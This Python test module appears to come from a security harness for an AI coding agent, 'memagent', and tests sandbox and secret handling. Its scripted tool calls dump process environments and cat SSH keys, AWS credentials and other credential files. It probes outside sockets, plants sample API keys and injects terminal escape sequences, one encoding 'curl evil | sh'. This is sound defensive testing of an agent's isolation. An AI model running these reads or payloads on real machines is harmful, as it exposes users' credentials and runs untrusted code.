"""Classes 9 and 10: secrets and the environment (variables, home files, sockets, redaction,
file modes), and the smaller defects (escape sequences, bad settings, odd card files)."""

from __future__ import annotations

import os
import socket
import stat
from pathlib import Path

from fakeapi import text, tool

from .harness import AWS_CANARY, SSH_CANARY, Attack, World, lost

STRIPE = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
BEARER = "Authorization: Bearer " + "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlMTIzNDU2Nzg5"
SLACK_HOOK = "https://hooks.slack.com/services/" + "T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
HF = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
EMAIL = "jane.doe@acme-corp.io"
PHONE = "+1 415-555-0132"
KEYS = (STRIPE, BEARER.split()[-1], SLACK_HOOK, HF)


def _bash(command: str) -> dict:
    return tool("bash", {"command": command})


def env_dump(w: World) -> list[str]:
    """Every way a sandboxed command can read its environment (the canaries are in memagent's)."""
    w.session(
        _bash("env; cat /proc/self/environ /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; echo END")
    )
    return [] if "END" in w.outcomes[-1].result(0) else ["the probe did not run"]


def home_files(w: World) -> list[str]:
    w.session(
        _bash(
            "cat ~/.m2/settings.xml ~/.npmrc ~/.netrc ~/.docker/config.json ~/.bash_history "
            f"{w.home}/.ssh/id_rsa {w.home}/.aws/credentials ~/.cache/../.ssh/id_rsa 2>&1; echo END"
        )
    )
    return [] if "END" in w.outcomes[-1].result(0) else ["the probe did not run"]


def symlinked_home(w: World) -> list[str]:
    """``HOME`` is a symlink to the real home folder: hiding the link must hide its target."""
    link = w.root / "home-link"
    link.symlink_to(w.home)
    w._before = w._snapshots()
    w.session(
        _bash(f"cat {w.home}/.ssh/id_rsa {link}/.aws/credentials; echo END"),
        env={"HOME": str(link), "MEMAGENT_HOME": str(link / ".memagent")},
    )
    return []


def other_projects_data(w: World) -> list[str]:
    """Another project memagent knows: its transcripts and private cards (outside HOME)."""
    (w.other / ".transcripts").mkdir()
    (w.other / ".transcripts" / "s.jsonl").write_text(f'{{"text": "{AWS_CANARY}"}}\n')
    (w.other / ".memory" / "private").mkdir(parents=True)
    (w.other / ".memory" / "private" / "m_0123456789ab.md").write_text(f"---\nid: m_0123456789ab\n---\n{SSH_CANARY}\n")
    trusted = w.cli("trust", "-C", str(w.other))
    w._before = w._snapshots()
    w.session(_bash(f"cat {w.other}/.transcripts/*.jsonl {w.other}/.memory/private/*.md; echo END"))
    return [] if trusted.returncode == 0 else ["could not register the other project"]


def other_untrusted_project_transcripts(w: World) -> list[str]:
    """Another project where the user ran a session but never answered a trust question: its
    transcript (the conversation) read from this project's sandbox."""
    marker = "OTHER-PROJECT-CONVERSATION-" + w.root.name
    w.session(prompt=f"remember {marker}", cwd=w.other, flags=("--no-memory",))
    w._before = w._snapshots()
    w.outcomes.clear()
    out = w.session(_bash(f"cat {w.other}/.transcripts/*.jsonl; echo END"))
    return [lost("another project's transcript was readable")] if marker in out.result(0) else []


def sockets(w: World) -> list[str]:
    """A listening Unix socket outside the project (outside /tmp too), and an abstract one."""
    path = w.victim / "docker.sock"
    servers = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    servers[0].bind(str(path))
    servers[1].bind("\0memagent-attack-" + w.root.name)
    for server in servers:
        server.listen()
    w._before = w._snapshots()
    probe = (
        "import socket\nfor a in [{!r}, {!r}]:\n  s = socket.socket(socket.AF_UNIX)\n  try:\n    s.connect(a); "
        "print('CONNECTED', repr(a))\n  except OSError as e: print('refused', e)\n"
    ).format(str(path), "\0memagent-attack-" + w.root.name)
    try:
        w.session(_bash(f"python3 - <<'EOF'\n{probe}EOF"))
    finally:
        for server in servers:
            server.close()
    out = w.outcomes[-1].result(0)
    return (
        [lost(f"a socket outside the project was reachable: {out[:200]!r}")]
        if "CONNECTED" in out
        else ([] if "refused" in out else [f"the probe did not run: {out[:200]!r}"])
    )


def secrets_in_task_files(w: World) -> list[str]:
    w.session(
        tool("task_create", {"subject": f"rotate {STRIPE}", "description": f"{BEARER}\nhook {SLACK_HOOK} {HF}"}),
        flags=("--yes", "--no-memory"),
    )
    return [lost(f"a key in clear on disk: {p}") for p in _files_holding(w.project, KEYS)]


def secrets_and_personal_data_in_cards(w: World) -> list[str]:
    w.session(
        tool("memory_save", {"content": f"Billing uses {STRIPE}", "memory_type": "fact"}),
        tool("memory_save", {"content": f"Escalate outages to {EMAIL} or {PHONE}", "memory_type": "fact"}),
        tool("memory_save", {"content": f"The Hugging Face token is {HF}", "memory_type": "fact", "scope": "user"}),
    )
    return [
        lost(f"a key or personal data in a card: {p}")
        for p in _files_holding(w.project / ".memory", (*KEYS, EMAIL, "415-555-0132"))
    ] + [lost(f"a key in a user card: {p}") for p in _files_holding(w.memagent_home, KEYS)]


def _files_holding(base: Path, needles: tuple[str, ...]) -> list[str]:
    hits = []
    for dirpath, dirnames, filenames in os.walk(base):
        dirnames[:] = [d for d in dirnames if d not in ("objects",)]
        for name in filenames:
            path = Path(dirpath) / name
            if path.is_file() and not path.is_symlink() and any(n.encode() in path.read_bytes() for n in needles):
                hits.append(str(path.relative_to(base)))
    return hits


def first_command_modes(command: tuple[str, ...]):
    """The first command of a fresh machine creates ``$MEMAGENT_HOME`` (and the project's data
    folder): nothing in them may be reachable by other users of the machine."""

    def attack(w: World) -> list[str]:
        os.rmdir(w.memagent_home)
        done = w.cli(*command, "-C", str(w.project))
        found = [] if done.returncode == 0 else [f"{command[0]} failed: {done.stderr[-200:]!r}"]
        for base in (w.memagent_home, w.project / ".tasks", w.project / ".memory" / "private"):
            found += [
                f"{p} is reachable by other users after a first `{' '.join(command)}`" for p in _exposed(base, w.root)
            ]
        return found

    return attack


def _exposed(base: Path, root: Path) -> list[str]:
    """What other users can reach under ``base`` (whose parent they may enter): a folder open to
    them, and a file they may read through folders they may all enter."""
    exposed: list[str] = []

    def visit(folder: Path, reachable: bool) -> None:
        mode = stat.S_IMODE(folder.lstat().st_mode)
        if reachable and mode & 0o077:
            exposed.append(f"{folder.relative_to(root)} ({oct(mode)})")
        enter = reachable and bool(mode & 0o011)
        for child in folder.iterdir():
            if child.is_symlink():
                continue
            if child.is_dir():
                visit(child, enter)
            elif enter and stat.S_IMODE(child.lstat().st_mode) & 0o044:
                exposed.append(f"{child.relative_to(root)} ({oct(stat.S_IMODE(child.lstat().st_mode))})")

    if base.is_dir():
        visit(base, True)
    return exposed


# --- class 10: the smaller defects -----------------------------------------------------------

ESCAPES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "c1-csi": "\x9b2J\x9b31m",
    "osc8-st": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title": "\x1b]0;pwned\x07\x1b[2J",
}


def raw_escapes_in_print_mode(name: str):
    def attack(w: World) -> list[str]:
        out = w.session(text(f"Done. {ESCAPES[name]} ok"), flags=("--no-memory",))
        raw = [ch for ch in ("\x1b", "\x9b", "\x07") if ch in out.stdout]
        return [f"-p printed raw control characters {raw!r}"] if raw else []

    return attack


def escapes_in_listings(w: World) -> list[str]:
    """A committed card and a shipped task file carry escape sequences; the user lists them."""
    w.write(
        ".memory/cards/m_0123456789ab.md",
        f"---\nid: m_0123456789ab\nmemory_type: fact\n---\nThe build {ESCAPES['osc52']} uses make\n",
    )
    w.write(".tasks/task_1.json", '{"id": 1, "subject": "fix \\u001b]52;c;ZXZpbA==\\u0007 now", "status": "pending"}')
    w.commit("shipped")
    found = []
    for command in (("memory", "list", "--all"), ("memory", "review"), ("tasks", "list")):
        out = w.cli(*command, "-C", str(w.project))
        if "\x1b]52" in out.stdout + out.stderr:
            found.append(f"`memagent {' '.join(command)}` printed a raw OSC 52")
    return found


def non_utf8_card_name(w: World) -> list[str]:
    cards = w.project / ".memory" / "cards"
    cards.mkdir(parents=True)
    (w.project / ".memory" / "cards").joinpath("ok.md")
    os.close(os.open(os.fsencode(cards) + b"/m_\xff\xfe.md", os.O_CREAT | os.O_WRONLY, 0o644))
    added = w.cli("memory", "add", "The build uses make", "--type", "fact", "-C", str(w.project))
    listed = w.cli("memory", "list", "-C", str(w.project))
    if added.returncode or listed.returncode or "The build uses make" not in listed.stdout:
        return [f"a non-UTF-8 card name took memory down: {added.stderr[-200:]!r} {listed.stderr[-200:]!r}"]
    return []


def bad_untrusted_settings(w: World) -> list[str]:
    w.write(
        ".memagent.toml",
        "memory_min_confidence = 0.0\noutput_cap_chars = -5\nsaved_output_max_bytes = -1\n"
        "bash_timeout = 0\ntranscript_retention = 0\n",
    )
    out = w.session(_bash("seq 1 20000"))
    result = out.result(0)
    found = [] if out.returncode == 0 else [f"the session failed on an untrusted file: {out.stderr[-200:]!r}"]
    if len(result) > 200_000 or not result:
        found.append("the untrusted output cap took effect")
    return found


ATTACKS = (
    Attack(
        "9/env", 9, "environment dump: env, /proc/*/environ (named and unlisted secret names)", env_dump, named=True
    ),
    Attack(
        "9/home-files",
        9,
        "~/.m2, ~/.npmrc, ~/.netrc, ~/.docker, history, ~/.ssh by absolute path",
        home_files,
        named=True,
    ),
    Attack("9/symlinked-home", 9, "HOME is a symlink: the target path read directly", symlinked_home),
    Attack(
        "9/other-projects",
        9,
        "another project's .transcripts and .memory/private read from the sandbox",
        other_projects_data,
        named=True,
    ),
    Attack(
        "9/other-untrusted-project",
        9,
        "an untrusted project's transcript read from the sandbox",
        other_untrusted_project_transcripts,
    ),
    Attack("9/sockets", 9, "a listening socket outside /tmp and an abstract socket", sockets, named=True),
    Attack(
        "9/task-secrets",
        9,
        "Stripe, Bearer, Slack webhook, Hugging Face keys in a task",
        secrets_in_task_files,
        named=True,
    ),
    Attack(
        "9/card-secrets", 9, "keys, e-mail and phone saved into cards", secrets_and_personal_data_in_cards, named=True
    ),
    Attack(
        "9/modes-memory-add",
        9,
        "0700/0600 when the first command is memory add",
        first_command_modes(("memory", "add", "x is y", "--type", "fact", "--scope", "user")),
        named=True,
    ),
    Attack(
        "9/modes-tasks",
        9,
        "0700/0600 when the first command is tasks add",
        first_command_modes(("tasks", "add", "first")),
    ),
    Attack("10/osc52", 10, "-p prints a clipboard-setting OSC 52", raw_escapes_in_print_mode("osc52"), named=True),
    Attack("10/c1-csi", 10, "-p prints 8-bit C1 CSI sequences", raw_escapes_in_print_mode("c1-csi")),
    Attack("10/osc8-title", 10, "-p prints OSC 8 links and title sequences", raw_escapes_in_print_mode("osc8-st")),
    Attack(
        "10/listing-escapes", 10, "escape sequences in a shipped card and task, listed by the user", escapes_in_listings
    ),
    Attack("10/non-utf8-card", 10, "a card file whose name is not UTF-8", non_utf8_card_name, named=True),
    Attack(
        "10/bad-settings",
        10,
        "an untrusted file lowering the gate and setting negative caps",
        bad_untrusted_settings,
        named=True,
    ),
)
